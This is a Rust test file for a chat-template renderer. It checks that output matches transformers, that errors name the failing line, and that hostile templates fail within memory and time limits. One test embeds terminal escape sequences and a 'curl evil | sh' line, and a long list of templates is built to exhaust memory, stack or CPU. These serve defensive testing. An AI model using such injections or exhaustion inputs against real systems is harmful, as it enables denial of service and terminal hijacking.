//! Chat templates: rendered as transformers renders them, and bounded where they are hostile.

#![allow(clippy::unwrap_used, reason = "a panic is how a test fails")]

use std::io::Write;

use esamp::llama::{ChatMessage, ChatTemplate, LoadError};
use esamp_testkit::golden;

#[derive(serde::Deserialize)]
struct Case {
    template: Option<String>,
    file: Option<String>,
    text: Option<String>,
}

fn conversation() -> [ChatMessage; 3] {
    let answer = ChatMessage { role: "assistant".to_owned(), content: "42".to_owned() };
    [ChatMessage::system("Be brief."), ChatMessage::user(" Hello <b>world</b> & 'é'\n"), answer]
}

fn render(template: &str) -> Result<String, LoadError> {
    ChatTemplate::new(template, "<s>", "</s>")?.render(&conversation())
}

/// Where this crate differs from transformers, and why.
const DIFFERENT: [(&str, &str); 1] = [(
    "{{ joiner is defined }} {{ cycler is defined }} {{ lipsum is defined }}",
    "no template uses them",
)];

#[test]
fn templates_are_rendered_as_transformers_renders_them() {
    let folder = golden::path("chat_templates");
    let cases: Vec<Case> =
        serde_json::from_str(&std::fs::read_to_string(folder.join("cases.json")).unwrap()).unwrap();
    assert!(cases.len() > 230);
    let mut wrong = Vec::new();
    for case in cases {
        let source = case
            .template
            .unwrap_or_else(|| std::fs::read_to_string(folder.join(case.file.unwrap())).unwrap());
        if DIFFERENT.iter().any(|(template, _)| *template == source) {
            continue;
        }
        let got = render(&source);
        match (&got, &case.text) {
            (Ok(got), Some(expected)) if got == expected => {}
            (Err(_), None) => {}
            _ => wrong.push(format!("{source}\n  expected {:?}\n  got      {got:?}", case.text)),
        }
    }
    assert!(wrong.is_empty(), "{} differ\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_template_can_write_the_date() {
    let year: u32 = render("{{ strftime_now('%Y') }}").unwrap().parse().unwrap();
    assert!(year > 2024, "{year}");
    assert!(render("{{ strftime_now('%Q') }}").is_err());
}

#[test]
fn an_error_names_the_line_and_what_was_expected() {
    let message = |template: &str| render(template).unwrap_err().to_string();
    assert_eq!(
        message("a\n{{ raise_exception('one system message') }}"),
        "chat template: line 2: one system message"
    );
    assert_eq!(
        message("\n\n{% for %}"),
        "chat template: line 3: expected a name, got the end of the tag"
    );
    assert_eq!(
        message("{{ nobody.name }}"),
        "chat template: line 1: expected a value of nobody, got none: it is undefined"
    );
    assert_eq!(
        message("{{ 'a' | shout }}"),
        "chat template: line 1: expected a filter that chat templates use, got shout"
    );
    assert_eq!(
        message("{% if true %}"),
        "chat template: line 1: expected endif, got the end of the template"
    );
    assert_eq!(
        message("{{ 'a'.replace('a', 'b', 1, 2) }}"),
        "chat template: line 1: expected at most 3 arguments, got 4"
    );
    assert_eq!(
        message("{{ [1] | tojson(colour=1) }}"),
        "chat template: line 1: expected an argument of ensure_ascii, indent, separators, sort_keys, got colour"
    );
}

#[test]
fn an_error_cannot_control_the_terminal() {
    let hostile =
        "{{ raise_exception('\\x1b]0;OWNED\\x07\\x1b[31mrun: curl evil | sh\\x1b[8m\\r\\n') }}";
    let message = render(hostile).unwrap_err().to_string();
    assert!(!message.contains(char::is_control), "{message:?}");
    assert!(message.contains("run: curl evil | sh"), "{message:?}");
    let long = render("{{ raise_exception('x' * 1000000) }}").unwrap_err().to_string();
    assert!(long.len() < 1000, "{}", long.len());
}

/// Templates that ask for more time, memory or stack than there is.
fn hostile() -> Vec<String> {
    let deep = |open: &str, inner: &str, close: &str| {
        format!("{{{{ {}{inner}{} }}}}", open.repeat(100_000), close.repeat(100_000))
    };
    let doubled = |step: &str, use_it: &str| {
        format!(
            "{{% set ns = namespace(x=[1], s='a') %}}{{% for i in range(90) %}}{{% set {step} %}}{{% endfor %}}{use_it}"
        )
    };
    let mut templates: Vec<String> = [
        // Values that hold themselves.
        "{% set ns = namespace() %}{% set ns.a = [ns] %}{{ ns.a }}",
        "{% set ns = namespace() %}{% set ns.a = {'b': ns} %}{{ ns == ns.a }}",
        "{% for x in [1] %}{{ [loop] | tojson }}{% endfor %}",
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% macro f(x) %}{{ f([x, x]) }}{% endmacro %}{{ f(1) }}",
        "{% for x in [[1]] recursive %}{{ loop([[x], [x]]) }}{% endfor %}",
        "{% macro f() %}{{ caller() }}{% endmacro %}{% call f() %}{% call f() %}{{ f() }}{% endcall %}{% endcall %}",
        // Numbers that are sizes.
        "{{ 'a' * 10 ** 18 }}", "{{ [0] * 10 ** 18 }}", "{{ (1, 2) * 10 ** 12 }}", "{{ ([[0] * 10000] * 10000) ~ '' }}",
        "{{ 'a'.center(10 ** 15) }}", "{{ 'a'.zfill(10 ** 15) }}", "{{ 'a'.ljust(10 ** 30) }}", "{{ 'a' | center(10 ** 15) }}",
        "{{ '%1000000000000d' % 1 }}", "{{ '%.1000000d' % 1 }}", "{{ '%.100000f' % 1.5 }}", "{{ '{:1000000000000}'.format(1) }}",
        "{{ range(10 ** 9) | list }}", "{{ range(-(10 ** 38), 10 ** 38) }}", "{{ 10 ** 10 ** 10 }}", "{{ 2 ** 127 }}",
        "{{ [1] | tojson(indent=10 ** 12) }}", "{{ [1] | batch(10 ** 12, 0) }}", "{{ [1] | slice(10 ** 12) }}",
        "{{ 'a\nb' | indent(10 ** 38) }}", "{{ [1] | batch(0) }}", "{{ 1 // 0 }}", "{{ 1 % 0 }}", "{{ 1 / 0 }}",
        "{{ (-2 ** 126) * 2 // -1 - 2 ** 126 - 2 ** 126 }}", "{{ 'a'[::0] }}", "{{ loop.cycle() }}",
        "{% for x in [1] %}{{ loop.cycle() }}{% endfor %}", "{{ 99999999999999999999999999999999999999999 }}",
        // An order that is none.
        "{% set ns = namespace(x=[]) %}{% for i in range(50) %}{% set ns.x = ns.x + [i, 'nan' | float, -i] %}{% endfor %}{{ ns.x | sort }}",
        "{{ ([1, 'a', none] * 50) | sort }}",
        // Work without size.
        "{{ ('a' * 1000000).strip('b' * 1000000) }}",
        "{% set x = 'a' * 1000000 %}{% for i in range(100000) %}{{ x.count('aa') }}{% endfor %}",
        "{% set x = 'a' * 1000000 %}{{ x.replace('', x) }}", "{% set x = 'a' * 1000000 %}{{ x.join(x) }}",
        "{% for i in range(100000) %}{% if range(100000) == range(100000) %}{% endif %}{% endfor %}",
        "{{ range(100000) | unique | list }}", "{{ range(100000) | sort(attribute='x') }}",
        "{% for i in range(99999) %}{{ range(99999) | list }}{% endfor %}",
        "{% for i in range(99999) %}{{ range(99999) | map('string') | sort | join }}{% endfor %}",
    ]
    .map(str::to_owned)
    .to_vec();
    for (open, inner, close) in [
        ("[", "1", "]"),
        ("(", "1", ")"),
        ("{1:", "1", "}"),
        ("-", "1", ""),
        ("not ", "1", ""),
        ("a[", "1", "]"),
        ("f(", "1", ")"),
        ("1 if 1 else ", "1", ""),
        ("[", "", ""),
        ("x|f(", "", ")"),
    ] {
        templates.push(deep(open, inner, close));
    }
    templates.push(format!("{}x{}", "{% if 1 %}".repeat(20_000), "{% endif %}".repeat(20_000)));
    templates.push(format!(
        "{}x{}",
        "{% for x in y %}".repeat(10_000),
        "{% endfor %}".repeat(10_000)
    ));
    templates.push(format!("{{{{ x{} }}}}", "['a']".repeat(100_000)));
    templates.push("{{ ".repeat(100_000));
    templates.push("{#".repeat(200_000));
    templates.push("{% raw %}".repeat(50_000));
    templates.push("x".repeat(1 << 20));
    for step in [
        "ns.x = ns.x + ns.x",
        "ns.x = [ns.x, ns.x]",
        "ns.x = {'a': ns.x, 'b': ns.x}",
        "ns.x = (ns.x, ns.x)",
        "ns.x = [ns.x]",
    ] {
        for use_it in [
            "{{ ns.x }}",
            "{{ ns.x | tojson }}",
            "{{ ns.x == [ns.x] }}",
            "{{ ns.x ~ '' }}",
            "{{ {ns.x: 1} }}",
        ] {
            templates.push(doubled(step, use_it));
        }
    }
    templates
}

/// The variable that names the template for the child process.
const CHILD: &str = "ESAMP_TEST_TEMPLATE";

#[cfg(unix)]
#[test]
fn a_hostile_template_ends_in_an_error_within_limits_of_the_system() {
    let program = std::env::current_exe().unwrap();
    for (at, template) in hostile().iter().enumerate() {
        // 160 MB of address space, of which the program itself takes some 60, and 5 seconds of processor time.
        let child = std::process::Command::new("sh")
            .args(["-c", "ulimit -v 160000; ulimit -t 5; exec \"$0\" --exact renders_one_hostile_template --ignored --nocapture"])
            .arg(&program)
            .env(CHILD, at.to_string())
            .env("RUST_MIN_STACK", "2097152")
            .output()
            .unwrap();
        let output = String::from_utf8_lossy(&child.stdout);
        let start: String = template.chars().take(200).collect();
        assert!(
            child.status.success(),
            "{start}\n{:?}\n{output}\n{}",
            child.status,
            String::from_utf8_lossy(&child.stderr)
        );
        assert!(output.contains("ended with: chat template: "), "{start}\n{output}");
    }
}

#[test]
#[ignore = "the child process of the test above"]
#[allow(clippy::print_stdout, reason = "the parent process reads it")]
fn renders_one_hostile_template() {
    let at: usize = std::env::var(CHILD).unwrap().parse().unwrap();
    let error = render(&hostile()[at]).unwrap_err();
    writeln!(std::io::stdout(), "ended with: {error}").unwrap();
}
